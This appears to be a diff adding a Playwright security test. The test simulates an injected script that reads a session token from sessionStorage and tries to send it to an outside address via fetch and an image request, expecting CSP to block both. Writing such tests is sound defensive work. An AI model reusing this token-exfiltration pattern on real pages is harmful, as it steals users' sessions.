@@ -58,6 +58,39 @@ test.describe('a page of another origin', () => {
   });
 });
 
+test.describe('a script that got into the page', () => {
+  test.use({ expectedComplaint: /Content Security Policy/ });
+
+  test('K22 sends the token to nobody, and elsewhere it is good for nothing', async ({ page, request, baseURL }) => {
+    await enter(page, 'lantern');
+    await page.goto('/');
+    const token = await page.evaluate(() => sessionStorage.getItem('token'));
+    await withStranger('', async (address) => {
+      const sent = await page.evaluate(
+        (to) =>
+          Promise.all([
+            fetch(to, { mode: 'no-cors' }).then(
+              () => 'sent',
+              () => 'blocked',
+            ),
+            new Promise((resolve) => {
+              const image = new Image();
+              image.onload = () => resolve('sent');
+              image.onerror = () => resolve('blocked');
+              image.src = to;
+            }),
+          ]),
+        `${address}?${token}`,
+      );
+      expect(sent).toEqual(['blocked', 'blocked']);
+    });
+    const info = `${baseURL}/wps/member/info`;
+    const headers = { authorization: `Bearer ${token}` };
+    expect((await request.get(info, { headers })).status()).toBe(401);
+    expect((await page.request.get(info, { headers })).status()).toBe(200);
+  });
+});
+
 test('K6 the game cannot move the page or read its storage', async ({ page }) => {
   await enter(page, 'lantern');
   await openGame(page);
